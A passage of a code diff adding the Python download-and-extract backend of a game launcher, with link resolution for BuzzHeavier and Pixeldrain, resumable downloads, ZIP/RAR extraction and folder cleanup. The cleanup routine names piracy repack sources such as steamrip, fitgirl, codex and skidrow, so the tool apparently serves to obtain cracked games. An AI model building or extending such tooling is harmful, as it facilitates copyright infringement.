+        module.UNRAR_TOOL = unrar_path
+        logging.info(f"UnRAR configuré: {unrar_path}")
+    else:
+        logging.warning("UnRAR non trouvé - les archives RAR ne pourront pas être extraites")
+
+rarfile = LazyModule("rarfile", setup=configure_unrar)
+
+def find_7zip() -> Optional[str]:
+    """7-Zip (installation système ou PATH) : repli de l'extraction RAR sans UnRAR"""
+    for path in (r"C:\Program Files\7-Zip\7z.exe", r"C:\Program Files (x86)\7-Zip\7z.exe"):
+        if os.path.exists(path):
+            return path
+    return shutil.which("7z") or shutil.which("7za")
+
+def rar_tool() -> Optional[str]:
+    """Outil de l'extraction RAR en un seul processus : UnRAR, sinon 7-Zip"""
+    try:
+        unrar = rarfile.UNRAR_TOOL
+    except Exception:
+        unrar = None
+    if unrar and os.path.exists(unrar):
+        return unrar
+    return (unrar and shutil.which(unrar)) or find_7zip()
+
+# ==================== CONFIGURATION ====================
+BUZZHEAVIER_LINK_URL = "https://raw.githubusercontent.com/pipionkakiandpipi/NewFrostApp/refs/heads/main/frostapp.txt"
+
+class DownloadStatus:
+    """Gère l'envoi des statuts de téléchargement (schéma et cadence : events.py)"""
+    
+    _stdout: Optional[EventEmitter] = None
+    _stdout_lock = threading.Lock()
+    
+    @staticmethod
+    def emit(message: str, progress: int = None, data: Dict[str, Any] = None, job: DownloadJob = None,
+             phase: str = None):
+        """
+        Émet un message de statut au format JSON pour Electron (à l'abonné du démon en mode serve)
+        `phase` (voir events.PHASES) signale un changement d'étape, transmis sans regroupement
+        """
+        kind = "error" if data and data.get("error") else "phase" if phase else "status"
+        status = DownloadStatus._build(kind, message, progress, data)
+        if phase:
+            status["phase"] = phase
+        DownloadStatus.post(status, job)
+    
+    @staticmethod
+    def emit_progress(message: str, progress: int, data: Dict[str, Any], job: DownloadJob = None, stream: str = ""):
+        """Progression d'un transfert ; `stream` distingue les transferts parallèles d'un même travail"""
+        DownloadStatus.post(DownloadStatus._build("progress", message, progress, data), job, stream)
+    
+    @staticmethod
+    def _build(kind: str, message: str, progress: Optional[int], data: Optional[Dict[str, Any]]) -> Dict[str, Any]:
+        status = {
+            "type": kind,
+            "message": message,
+            "timestamp": time.time()
+        }
+        if progress is not None:
+            status["progress"] = progress
+        if data:
+            status.update(data)
+        return status
+    
+    @staticmethod
+    def post(status: Dict[str, Any], job: DownloadJob = None, stream: str = ""):
+        """Transmet un événement complet à l'abonné du travail, sinon sur la sortie standard"""
+        job = job or current_job.get()
+        if job and job.publish:
+            job.publish(status, stream)
+        else:
+            DownloadStatus.stdout().post(status, stream=stream)
+    
+    @staticmethod
+    def stdout() -> EventEmitter:
+        """Flux de la sortie standard (une commande = un processus), vidé à la sortie"""
+        with DownloadStatus._stdout_lock:
+            if DownloadStatus._stdout is None:
+                DownloadStatus._stdout = EventEmitter(lambda event: print(json.dumps(event), flush=True))
+                atexit.register(DownloadStatus._stdout.close)
+            return DownloadStatus._stdout
+
+class ProgressReporter:
+    """Relaie la progression du moteur de transfert vers DownloadStatus"""
+    
+    _streams = itertools.count(1)
+    
+    def __init__(self, destination: str, data: Dict[str, Any] = None):
+        self.destination = destination
+        self.data = data or {}
+        self.percent = 0
+        # Le moteur asynchrone appelle progress() depuis le thread de sa boucle
+        self.job = current_job.get()
+        # Un flux par transfert : les fichiers d'un dossier GoFile sont additionnés
+        self.stream = f"t{next(ProgressReporter._streams)}"
+    
+    def reserve(self, needed: int):
+        """Appelé une fois avant la préallocation : `needed` octets + 5 GB de marge"""
+        is_ok, error_message = check_disk_space_requirements(self.destination, needed / (1024**3))
+        if not is_ok:
+            DownloadStatus.emit(f"❌ Arrêt: {error_message}", 0, {"error": True}, self.job)
+            raise transfer.DownloadAborted("espace insuffisant")
+    
+    def progress(self, downloaded: int, total: int, speed: float, io: Dict[str, Any] = None,
+                 stalls: Dict[str, int] = None):
+        """
+        Appelé chaque seconde par le moteur de transfert
+        (`io` : métriques d'écriture, `stalls` : connexions bloquées relancées)
+        """
+        speed_mb = speed / (1024 * 1024)
+        self.percent = int((downloaded / total) * 100) if total else 0
+        eta = (total - downloaded) / speed if speed > 0 and total else 0
+        
+        data = {"speed": speed_mb, "eta": eta, "downloaded": downloaded, "total": total}
+        if io:
+            data["io"] = io
+        if stalls:
+            data["stalls"] = stalls
+        data.update(self.data)
+        DownloadStatus.emit_progress(
+            f"📥 {self.percent}% - {speed_mb:.2f} Mo/s - ETA: {format_eta(eta)}",
+            self.percent,
+            data,
+            self.job,
+            self.stream
+        )
+    
+    def checkpoint(self, journal):
+        """Plages synchronisées et URL résolue, consignées dans la base du démon"""
+        if self.job and self.job.store:
+            self.job.store.checkpoint(self.job.download_id, journal.tmp_file, journal.ranges, journal.source, journal.url)
+    
+    def paused(self):
+        DownloadStatus.emit("⏸️ En pause", self.percent, job=self.job, phase="paused")
+    
+    def resumed(self):
+        DownloadStatus.emit("▶️ Reprise", self.percent, job=self.job, phase="resumed")
+
+# ==================== UTILITAIRES ====================
+
+def sanitize_filename(filename: str) -> str:
+    """Nettoie un nom de fichier"""
+    sanitized = re.sub(r'[<>:"/\\|?*]', "-", filename)
+    return sanitized
+
+def detect_link_type(url: str) -> str:
+    """Détecte le type de lien"""
+    url = url.lower()
+    if "pixeldrainbypass.org" in url or "pixeldrain.com" in url:
+        return "pixeldrain"
+    elif "buzzheavier.com" in url:
+        return "buzzheavier"
+    elif "gofile.io" in url:
+        return "gofile"
+    else:
+        return "unknown"
+
+def convert_pixeldrain_url(original_url: str) -> str:
+    """Convertit une URL pixeldrain /u/ vers /api/file/"""
+    try:
+        # Si c'est déjà un lien de téléchargement direct, le retourner tel quel
+        if "/api/file/" in original_url or "/download/" in original_url:
+            return original_url
+        
+        # Si c'est un lien /u/, le convertir vers l'API de téléchargement direct
+        if "/u/" in original_url:
+            file_id = original_url.split("/u/")[-1].split("?")[0]
+            return f"https://pixeldrain.com/api/file/{file_id}"
+        
+        return original_url
+    except Exception:
+        return original_url
+
+def remove_partial_file(tmp_file: str):
+    """Supprime un fichier .part (même en lecture seule) et son journal de reprise"""
+    try:
+        if os.path.exists(tmp_file):
+            os.chmod(tmp_file, 0o777)
+            os.remove(tmp_file)
+            logging.info(f"🗑️ Fichier partiel supprimé: {tmp_file}")
+    except Exception as e:
+        logging.error(f"Erreur suppression fichier partiel: {e}")
+    ResumeJournal(tmp_file).delete()
+
+def journaled_url(session, destination: str, source_url: str) -> Optional[str]:
+    """
+    Retourne l'URL résolue d'un téléchargement interrompu de `source_url`
+    si elle sert toujours le même fichier (évite une nouvelle résolution)
+    """
+    journal = ResumeJournal.find(destination, source_url)
+    if not journal or not journal.url:
+        return None
+    try:
+        headers = {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"}
+        remote, response = transfer.probe(session, journal.url, headers)
+        if response is not None:
+            response.close()
+        if remote.accept_ranges and journal.matches(remote):
+            return journal.url
+    except requests.RequestException as e:
+        logging.info(f"URL du journal expirée: {e}")
+    return None
+
+def resolve_mirror(session, link: str) -> Optional["transfer.Mirror"]:
+    """
+    Résout un lien du catalogue en URL directe de fichier.
+    GoFile (dossier) et les liens inconnus ne peuvent pas servir de miroir.
+    """
+    link_type = detect_link_type(link)
+    generic_headers = {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"}
+    if link_type == "pixeldrain":
+        return transfer.Mirror(convert_pixeldrain_url(link), {
+            "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/132.0.0.0",
+            "Accept": "*/*"
+        })
+    if link_type == "buzzheavier":
+        headers = {
+            "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/132.0.0.0",
+            "Accept": "*/*",
+            "hx-request": "true",
+            "hx-current-url": link.rstrip("/"),
+            "Referer": link.rstrip("/"),
+        }
+        r = session.get(link.rstrip("/") + "/download", headers=headers, allow_redirects=False, timeout=30)
+        hx_redirect = r.headers.get("hx-redirect") or r.headers.get("Location")
+        if r.status_code >= 400 or not hx_redirect:
+            logging.warning(f"Miroir BuzzHeavier non résolu: code {r.status_code}")
+            return None
+        file_url = f"https://buzzheavier.com{hx_redirect}" if hx_redirect.startswith("/") else hx_redirect
+        return transfer.Mirror(file_url, headers if "buzzheavier.com" in file_url else generic_headers)
+    logging.info(f"Miroir ignoré ({link_type}): {link}")
+    return None
+
+def resolve_buzzheavier(session, url: str):
+    """Nouvelle résolution hx-redirect d'un lien BuzzHeavier (URL expirée pendant une pause)"""
+    mirror = resolve_mirror(session, url)
+    if mirror is None:
+        raise transfer.TransferError("BuzzHeavier: lien de téléchargement introuvable")
+    return mirror.url, mirror.headers
+
+def prepare_mirrors(session, remote, file_url: str, headers: Dict[str, str], source_url: str, links) -> list:
+    """Miroirs du catalogue vérifiés identiques au fichier principal"""
+    links = [link for link in (links or []) if link and link.rstrip("/") != source_url.rstrip("/")]
+    if not links or not remote.accept_ranges:
+        return []
+    DownloadStatus.emit(f"🔍 Vérification de {len(links)} miroir(s)...")
+    candidates = []
+    for link in links:
+        try:
+            mirror = resolve_mirror(session, link)
+        except requests.RequestException as e:
+            logging.warning(f"Miroir {link} injoignable: {e}")
+            continue
+        if mirror:
+            candidates.append(mirror)
+    from mirrors import verify_mirrors
+    
+    verified = verify_mirrors(session, transfer.Mirror(remote.url or file_url, headers, primary=True), remote, candidates)
+    if verified:
+        logging.info(f"Téléchargement réparti sur {len(verified) + 1} source(s)")
+    return verified
+
+def get_free_space_gb(path_dir: str) -> float:
+    """Retourne l'espace disque libre en Go"""
+    try:
+        usage = shutil.disk_usage(path_dir)
+        return usage.free / (1024**3)
+    except Exception:
+        return 9999.0
+
+def check_disk_space_requirements(destination: str, required_size_gb: float = 0, min_free_gb: float = 5.0):
+    """
+    Vérifie si l'espace disque est suffisant pour un téléchargement
+    
+    Args:
+        destination: Chemin de destination
+        required_size_gb: Taille estimée du fichier en GB (0 si inconnu)
+        min_free_gb: Espace minimum requis après téléchargement (défaut: 5 GB)
+    
+    Returns:
+        (is_ok, error_message)
+    """
+    try:
+        free_space_gb = get_free_space_gb(destination)
+        
+        # Si on connaît la taille du fichier, vérifier qu'on a assez d'espace
+        if required_size_gb > 0:
+            total_required = required_size_gb + min_free_gb
+            if free_space_gb < total_required:
+                return False, f"Espace insuffisant: {free_space_gb:.1f} GB disponibles, {total_required:.1f} GB requis"
+        else:
+            # Si taille inconnue, exiger au moins 50% du fichier estimé + marge
+            if free_space_gb < min_free_gb:
+                return False, f"Espace insuffisant: {free_space_gb:.1f} GB disponibles (minimum {min_free_gb} GB requis)"
+        
+        return True, ""
+    except Exception as e:
+        logging.error(f"Erreur vérification espace disque: {e}")
+        return True, ""  # En cas d'erreur, ne pas bloquer
+
+def extract_filename(content_disposition: str) -> str:
+    """Extrait le nom de fichier depuis Content-Disposition"""
+    filename = "downloaded_file"
+    if content_disposition:
+        match = re.search(r"filename\*=UTF-8''([^;\r\n]+)", content_disposition)
+        if match:
+            filename = match.group(1)
+        else:
+            match = re.search(r'filename="([^"]+)"', content_disposition)
+            if match:
+                filename = match.group(1)
+    return sanitize_filename(filename)
+
+# ==================== EXTRACTION ====================
+
+def is_zip_valid(filepath: str) -> bool:
+    """Vérifie la validité d'une archive ZIP (rapide - vérifie juste l'ouverture)"""
+    try:
+        with zipfile.ZipFile(filepath, 'r') as zip_ref:
+            # Vérification rapide : juste ouvrir et lire la liste
+            # testzip() est TROP LENT car il teste tous les fichiers
+            namelist = zip_ref.namelist()
+            if not namelist:
+                return False
+            return True
+    except Exception as e:
+        logging.error(f"Erreur validation ZIP: {e}")
+        return False
+
+def is_rar_valid(filepath: str) -> bool:
+    """Vérifie la validité d'une archive RAR (rapide - vérifie juste l'ouverture)"""
+    try:
+        with rarfile.RarFile(filepath) as rf:
+            # Vérification rapide : juste obtenir la liste des fichiers
+            # testrar() est TROP LENT car il teste tous les fichiers
+            namelist = rf.namelist()
+            if not namelist:
+                return False
+            return True
+    except Exception as e:
+        logging.error(f"Erreur validation RAR: {e}")
+        return False
+
+def clean_game_folder(destination: str, game_name: str = "") -> None:
+    """
+    Nettoie le dossier du jeu après extraction :
+    - Supprime les fichiers Read_Me*.txt
+    - Supprime les raccourcis .url SAUF OnlineFix.url
+    - Renomme les dossiers contenant steamrip/steamgg/atopgames
+    """
+    try:
+        DownloadStatus.emit("🧹 Finalisation...", 95, phase="finalizing")
+        
+        # Patterns de sites à nettoyer des noms de dossiers (sans extensions)
+        site_patterns = [
+            'steamrip', 'steam-rip', 'steam_rip',
+            'steamgg', 'steam-gg', 'steam_gg',
+            'atopgames', 'atop-games', 'atop_games',
+            'fitgirl', 'fit-girl', 'fit_girl',
+            'dodi', 'repack', 'codex', 'skidrow',
+            'freetp', 'free-tp', 'free_tp',
+            'gog', 'gog-games', 'gog_games'
+        ]
+        
+        # Extensions de domaines à supprimer
+        domain_extensions = ['.net', '.com', '.org', '.io', '.gg', '.me', '.xyz', '.ru']
+        
+        files_removed = 0
+        folders_renamed = 0
+        
+        # Parcourir tous les fichiers et dossiers
+        for root, dirs, files in os.walk(destination):
+            # 1. Supprimer les fichiers Read_Me*.txt
+            for file in files:
+                file_lower = file.lower()
+                file_path = os.path.join(root, file)
+                
+                # Supprimer Read_Me files
+                if file_lower.startswith('read') and file_lower.endswith('.txt'):
+                    if 'me' in file_lower or 'readme' in file_lower:
+                        try:
+                            os.remove(file_path)
+                            files_removed += 1
+                            logging.info(f"Supprimé: {file}")
+                        except Exception as e:
+                            logging.warning(f"Impossible de supprimer {file}: {e}")
+                
+                # Supprimer les raccourcis .url SAUF OnlineFix.url
+                if file_lower.endswith('.url'):
+                    if 'onlinefix' not in file_lower:
+                        try:
+                            os.remove(file_path)
+                            files_removed += 1
+                            logging.info(f"Raccourci supprimé: {file}")
+                        except Exception as e:
+                            logging.warning(f"Impossible de supprimer {file}: {e}")
+            
+            # 2. Renommer les dossiers contenant les patterns de sites
+            for dir_name in dirs[:]:  # Copie pour éviter les modifications pendant l'itération
+                dir_lower = dir_name.lower()
+                dir_path = os.path.join(root, dir_name)
+                
+                # Vérifier si le dossier contient un pattern à nettoyer
+                new_name = dir_name
+                changed = False
+                
+                # Supprimer les patterns de sites (toutes les variations de casse)
+                for pattern in site_patterns:
+                    # Chercher toutes les variantes de casse du pattern
+                    if pattern in dir_lower:
+                        # Utiliser regex pour supprimer insensible à la casse
+                        import re
+                        new_name = re.sub(r'(?i)' + re.escape(pattern), '', new_name)
+                        changed = True
+                
+                # Supprimer les extensions de domaines (.net, .com, etc.)
+                for ext in domain_extensions:
+                    if ext in new_name.lower():
+                        # Supprimer l'extension (insensible à la casse)
+                        import re
+                        new_name = re.sub(r'(?i)' + re.escape(ext), '', new_name)
+                        changed = True
+                
+                # Nettoyer les séparateurs multiples et les espaces
+                if changed:
+                    # Supprimer séparateurs multiples
+                    for sep in ['-', '_', '.', ' ']:
+                        while sep + sep in new_name:
+                            new_name = new_name.replace(sep + sep, sep)
+                    
+                    # Supprimer les séparateurs au début/fin
+                    new_name = new_name.strip('-_. ')
+                    
+                    # Supprimer les parenthèses/crochets vides
+                    new_name = re.sub(r'\s*[\[\(\{]\s*[\]\)\}]\s*', '', new_name)
+                    new_name = new_name.strip()
+                
+                # Si le nom a changé, renommer
+                if new_name and new_name != dir_name and changed:
+                    new_path = os.path.join(root, new_name)
+                    
+                    # Éviter les conflits de noms
+                    counter = 1
+                    temp_new_path = new_path
+                    while os.path.exists(temp_new_path):
+                        temp_new_path = f"{new_path}_{counter}"
+                        counter += 1
+                    
+                    try:
+                        os.rename(dir_path, temp_new_path)
+                        folders_renamed += 1
+                        logging.info(f"Dossier renommé: {dir_name} → {os.path.basename(temp_new_path)}")
+                    except Exception as e:
+                        logging.warning(f"Impossible de renommer {dir_name}: {e}")
+        
+        # Log final
+        if files_removed > 0 or folders_renamed > 0:
+            logging.info(f"Nettoyage terminé: {files_removed} fichier(s) supprimé(s), {folders_renamed} dossier(s) renommé(s)")
+        
+    except Exception as e:
+        logging.warning(f"Erreur lors du nettoyage: {e}")
+        # Ne pas bloquer l'extraction pour une erreur de nettoyage
+
+def stream_zip(engine, filename: str, destination: str, controller=None):
+    """
+    Extraction d'un `.zip` pendant son téléchargement (voir zip_stream.py) : le moteur
+    passe en segments ordonnés et l'extracteur suit le `.part`. None si désactivée.
+    """
+    import zip_stream
+    if not zip_stream.STREAM_ZIP or not filename.lower().endswith('.zip'):
+        return None
+    engine.sequential = True
+    extractor = zip_stream.StreamingZipExtractor(engine.tmp_file, destination, engine.available, controller)
+    extractor.start()
+    return extractor
+
+def run_streamed(engine, remote, response, extractor) -> tuple:
+    """
+    engine.run, puis fin de l'extraction au fil de l'eau (fichiers fermés avant le
+    renommage du `.part`). Retourne (téléchargement complet, archive déjà extraite).
+    """
+    completed = False
+    try:
+        completed = engine.run(remote, response)
+    finally:
+        extracted = False
+        if extractor is not None:
+            if completed:
+                DownloadStatus.emit("📦 Vérification de l'extraction...", 95, phase="extracting")
+            extracted = extractor.finish(completed)
+    return completed, extracted
+
+def extract_archive(filepath: str, destination: str, controller=None, volumes=None, extracted: bool = False) -> bool:
+    """
+    Extrait une archive ZIP ou RAR ; en mode serve, attend une place d'extraction de la file
+    (`volumes` : volume_sets.VolumeSet dont `filepath` est le premier volume ;
+    `extracted` : ZIP déjà extrait pendant le téléchargement, voir run_streamed)
+    """
+    job = current_job.get()
+    if job is None or job.queue is None:
+        return _extract_archive(filepath, destination, controller, volumes, extracted)
+    with job.queue.extracting(job.download_id, job.controller.is_stopped):
+        return _extract_archive(filepath, destination, controller, volumes, extracted)
+
+def _extract_archive(filepath: str, destination: str, controller=None, volumes=None, extracted: bool = False) -> bool:
+    """Extrait une archive ZIP ou RAR (optimisé pour la vitesse)"""
+    try:
+        # Vérifier arrêt AVANT de commencer l'extraction
+        if controller and controller.is_stopped():
+            DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+            return False
+        
+        file_lower = filepath.lower()
+        
+        if file_lower.endswith('.zip') and extracted:
+            # Extrait et vérifié (répertoire central) pendant le téléchargement
+            os.remove(filepath)
+            clean_game_folder(destination)
+            DownloadStatus.emit("✅ Terminé", 100, {"success": True}, phase="completed")
+            return True
+        
+        if file_lower.endswith('.zip'):
+            DownloadStatus.emit("📦 Validation...", 0, phase="validating")
+            if not is_zip_valid(filepath):
+                DownloadStatus.emit("❌ Erreur: archive corrompue", 0, {"error": True})
+                if os.path.exists(filepath):
+                    os.remove(filepath)
+                return False
+            
+            # Vérifier arrêt après validation
+            if controller and controller.is_stopped():
+                DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                return False
+            
+            DownloadStatus.emit("🚀 Extraction...", 5, phase="extracting")
+            # Membres répartis sur plusieurs threads (zlib relâche le GIL)
+            from zip_parallel import ParallelZipExtractor
+            extraction = ParallelZipExtractor(filepath, destination, controller)
+            extraction.start()
+            last_progress = 5
+            while True:
+                done = extraction.wait(0.25)
+                if done is not None:
+                    break
+                progress = int(5 + extraction.fraction * 90)  # 5% à 95%
+                if progress != last_progress:
+                    last_progress = progress
+                    DownloadStatus.emit(
+                        f"Extraction: {progress}%",
+                        progress,
+                        {"files_done": extraction.files_done, "files_total": extraction.total_files}
+                    )
+            
+            # Arrêt (y compris pendant une pause) : les fichiers incomplets sont déjà supprimés
+            if not done:
+                logging.info(f"⏹️ Extraction arrêtée à {extraction.files_done}/{extraction.total_files} fichiers")
+                DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                if os.path.exists(filepath):
+                    try:
+                        os.remove(filepath)
+                    except:
+                        pass
+                return False
+            
+            os.remove(filepath)
+            
+            # Vérifier arrêt avant nettoyage
+            if controller and controller.is_stopped():
+                DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                return False
+            
+            # Nettoyage automatique du dossier
+            clean_game_folder(destination)
+            
+            DownloadStatus.emit("✅ Terminé", 100, {"success": True}, phase="completed")
+            return True
+            
+        elif file_lower.endswith('.rar'):
+            # Vérifie si UnRAR (ou 7-Zip) est disponible
+            tool = rar_tool()
+            
+            if not tool:
+                DownloadStatus.emit(
+                    "⚠️ UnRAR non installé. Le fichier RAR a été téléchargé mais ne peut pas être extrait automatiquement. "
+                    "Veuillez extraire manuellement ou installer UnRAR.",
+                    100,
+                    {"warning": True}
+                )
+                logging.warning("UnRAR non disponible, extraction RAR impossible")
+                return True  # On considère quand même comme succès
+            
+            # Vérifier arrêt avant validation
+            if controller and controller.is_stopped():
+                DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                return False
+            
+            DownloadStatus.emit("📦 Validation...", 0, phase="validating")
+            if not is_rar_valid(filepath):
+                DownloadStatus.emit("❌ Erreur: archive corrompue", 0, {"error": True})
+                if os.path.exists(filepath):
+                    os.remove(filepath)
+                return False
+            
+            # Vérifier arrêt après validation
+            if controller and controller.is_stopped():
+                DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                return False
+            
+            DownloadStatus.emit("🚀 Extraction...", 5, phase="extracting")
+            with rarfile.RarFile(filepath) as rf:
+                # Tailles lues dans les en-têtes : progression par octets des fichiers terminés
+                sizes = {m.filename: m.file_size for m in rf.infolist() if not m.is_dir()}
+            
+            # Un seul processus pour toute l'archive (une archive solide n'est décompressée qu'une fois)
+            from archive_process import ArchiveProcess, SUCCESS_CODES
+            if volumes is None:
+                extraction = ArchiveProcess(tool, filepath, destination, sizes)
+                listed_all = True
+            else:
+                # Volumes suivants attendus au fil du téléchargement, supprimés une fois lus
+                stopped = controller.is_stopped if controller else (lambda: False)
+                extraction = ArchiveProcess(
+                    tool, filepath, destination, sizes,
+                    next_volume=lambda name: volumes.wait_for(name, stopped),
+                    volume_opened=volumes.opened
+                )
+                listed_all = volumes.complete()
+            extraction.start()
+            last_progress = 5
+            while True:
+                code = extraction.wait(0.25)
+                if code is not None:
+                    break
+                
+                # Arrêt : l'outil est tué, le fichier en cours supprimé
+                if controller and controller.is_stopped():
+                    extraction.terminate()
+                    logging.info(f"⏹️ Extraction RAR arrêtée à {extraction.files_done}/{extraction.total_files} fichiers")
+                    DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                    if volumes is not None:
+                        volumes.release()
+                    elif os.path.exists(filepath):
+                        try:
+                            os.remove(filepath)
+                        except:
+                            pass
+                    return False
+                
+                # Pause : l'outil est suspendu jusqu'à la reprise
+                if controller and controller.is_paused() != extraction.suspended:
+                    extraction.suspend() if controller.is_paused() else extraction.resume()
+                
+                # Volumes pas encore tous arrivés : tailles inconnues, avancement par volume lu
+                fraction = extraction.fraction if listed_all else volumes.consumed / len(volumes.paths)
+                progress = int(5 + fraction * 90)  # 5% à 95%
+                if progress != last_progress:
+                    last_progress = progress
+                    DownloadStatus.emit(
+                        f"Extraction: {progress}%",
+                        progress,
+                        {"files_done": extraction.files_done, "files_total": extraction.total_files}
+                    )
+            
+            if code not in SUCCESS_CODES:
+                logging.error(f"Extraction RAR en échec (code {code}): {extraction.error()}")
+                DownloadStatus.emit("❌ Erreur: extraction impossible", 0, {"error": True})
+                return False
+            
+            if volumes is not None:
+                volumes.release()
+            else:
+                os.remove(filepath)
+            
+            # Vérifier arrêt avant nettoyage
+            if controller and controller.is_stopped():
+                DownloadStatus.emit("🗑️ Annulé", 0, {"cancelled": True}, phase="cancelled")
+                return False
+            
+            # Nettoyage automatique du dossier
+            clean_game_folder(destination)
+            
+            DownloadStatus.emit("✅ Terminé", 100, {"success": True}, phase="completed")
+            return True
+        
+        return True
+        
+    except Exception as e:
+        DownloadStatus.emit("❌ Erreur: extraction impossible", 0, {"error": True})
+        return False
+
+# ==================== BUZZHEAVIER ====================
+
+def download_buzzheavier(url: str, destination: str, max_retries: int = 5, mirrors: Optional[list] = None) -> bool:
+    """Télécharge depuis BuzzHeavier avec système de retry automatique (`mirrors` : autres liens du catalogue)"""
+    controller, bandwidth = current_controller(), current_bandwidth()
+    
+    # Tentatives de téléchargement avec retry
+    for attempt in range(1, max_retries + 1):
+        try:
+            # Vérifier l'espace disque au démarrage
+            free_space_gb = get_free_space_gb(destination)
+            if free_space_gb < 5.0:
+                DownloadStatus.emit(f"❌ Espace insuffisant: {free_space_gb:.1f} GB disponibles (minimum 5 GB requis)", 0, {"error": True})
+                return False
+            
+            if attempt == 1:
+                DownloadStatus.emit("🔍 Préparation...", phase="preparing")
+            else:
+                DownloadStatus.emit(f"🔄 Nouvelle tentative {attempt}/{max_retries}...", 0, phase="retrying")
+                # Attente progressive entre les tentatives (backoff exponentiel)
+                wait_time = min(2 ** (attempt - 1), 30)  # Max 30 secondes
+                logging.info(f"⏳ Attente de {wait_time}s avant nouvelle tentative...")
+                time.sleep(wait_time)
+            
+            # Vérifier stop avant de commencer
+            if controller and controller.is_stopped():
+                DownloadStatus.emit("🗑️ Suppression...", 0, {"cancelled": True}, phase="cancelled")
+                return False
+            
+            session = http_pool.get_session(http_pool.pool_size(1, transfer.MAX_CONNECTIONS))
+            headers = {
+                "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/132.0.0.0",
+                "Accept": "*/*",
+                "hx-request": "true",
+                "hx-current-url": url.rstrip("/"),
+                "Referer": url.rstrip("/"),
+            }
+            
+            # Reprise : réutiliser l'URL déjà résolue si elle répond toujours
+            file_url = journaled_url(session, destination, url)
+            if file_url:
+                logging.info(f"BuzzHeavier: reprise sur l'URL du journal: {file_url}")
+            else:
+                download_url = url.rstrip("/") + "/download"
+                logging.info(f"BuzzHeavier: Requête vers {download_url} (tentative {attempt})")
+                r = session.get(download_url, headers=headers, allow_redirects=False, timeout=30)
+                
+                logging.info(f"BuzzHeavier: Code HTTP reçu: {r.status_code}")
+                
+                # Accepter plus de codes HTTP valides pour BuzzHeavier
+                if r.status_code >= 400:  # Erreur 4xx ou 5xx
+                    logging.warning(f"BuzzHeavier erreur HTTP {r.status_code} (tentative {attempt}/{max_retries})")
+                    if attempt < max_retries:
+                        continue  # Réessayer
+                    else:
+                        DownloadStatus.emit(f"❌ Erreur serveur persistante: code {r.status_code}", 0, {"error": True})
+                        logging.error(f"BuzzHeavier erreur HTTP {r.status_code}: {r.text[:200] if r.text else 'Pas de contenu'}")
+                        return False
+                
+                hx_redirect = r.headers.get("hx-redirect")
+                logging.info(f"BuzzHeavier: hx-redirect = {hx_redirect}")
+                
+                if not hx_redirect:
+                    # Essayer d'autres méthodes pour obtenir le lien
+                    location = r.headers.get("Location")
+                    logging.info(f"BuzzHeavier: Location = {location}")
+                    if location:
+                        hx_redirect = location
+                    else:
+                        DownloadStatus.emit("❌ Erreur: lien introuvable", 0, {"error": True})
+                        logging.error(f"BuzzHeavier: Pas de hx-redirect. Headers: {dict(r.headers)}")
+                        return False
+                
+                file_url = f"https://buzzheavier.com{hx_redirect}" if hx_redirect.startswith("/") else hx_redirect
+                
+                logging.info(f"BuzzHeavier: URL de téléchargement finale: {file_url}")
+            
+            DownloadStatus.emit("⬇️ Téléchargement...", phase="downloading")
+            
+            # Si l'URL de redirection est vers un autre domaine (trashbytes, etc.)
+            # Utiliser des headers génériques au lieu des headers BuzzHeavier
+            download_headers = {
+                "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+            }
+            
+            # Si c'est encore sur buzzheavier.com, garder les headers spécifiques
+            if "buzzheavier.com" in file_url:
+                download_headers = headers
+        
+            remote, response = transfer.probe(session, file_url, download_headers)
+            logging.info(f"BuzzHeavier: Code réponse téléchargement: {remote.status_code}")
+            if not remote.ok:
+                logging.warning(f"BuzzHeavier: Erreur téléchargement code {remote.status_code} (tentative {attempt}/{max_retries})")
+                logging.warning(f"Headers réponse: {dict(remote.headers)}")
+                if attempt < max_retries and remote.status_code >= 500:
+                    # Erreur serveur (5xx) = réessayer
+                    continue  # Réessayer
+                else:
+                    # Erreur client (4xx) ou dernière tentative = échouer
+                    DownloadStatus.emit(f"❌ Erreur: code {remote.status_code}", 0, {"error": True})
+                    logging.error(f"BuzzHeavier: Erreur téléchargement définitive. Headers: {dict(remote.headers)}")
+                    return False
+            
+            filename = extract_filename(remote.content_disposition)
+            full_path = os.path.join(destination, filename)
+            tmp_file = f"{full_path}.part"
+            
+            engine = aio_transfer.create_downloader(
+                session, file_url, tmp_file, download_headers,
+                controller=controller,
+                reporter=ProgressReporter(destination),
+                source=url,
+                bandwidth=bandwidth,
+                mirrors=prepare_mirrors(session, remote, file_url, download_headers, url, mirrors),
+                resolve=lambda: resolve_buzzheavier(session, url)
+            )
+            extractor = stream_zip(engine, filename, destination, controller)
+            try:
+                completed, extracted = run_streamed(engine, remote, response, extractor)
+            except transfer.DownloadAborted:
+                remove_partial_file(tmp_file)
+                return False
+            
+            # Renommer .part -> fichier final (seulement si pas stopped)
+            if completed:
+                os.rename(tmp_file, full_path)
+            else:
+                remove_partial_file(tmp_file)
+            
+            # Vérification finale si arrêté
+            if controller and controller.is_stopped():
+                try:
+                    if os.path.exists(destination):
+                        DownloadStatus.emit("🗑️ Annulation...", 0, {"cancelled": True}, phase="cancelled")
+                        logging.info(f"🗑️ Suppression BuzzHeavier: {destination}")
+                        import stat
+                        def force_remove_readonly(func, path, exc_info):
+                            try:
+                                os.chmod(path, stat.S_IWRITE)
+                                func(path)
+                            except:
+                                pass
+                        shutil.rmtree(destination, onerror=force_remove_readonly)
+                        if not os.path.exists(destination):
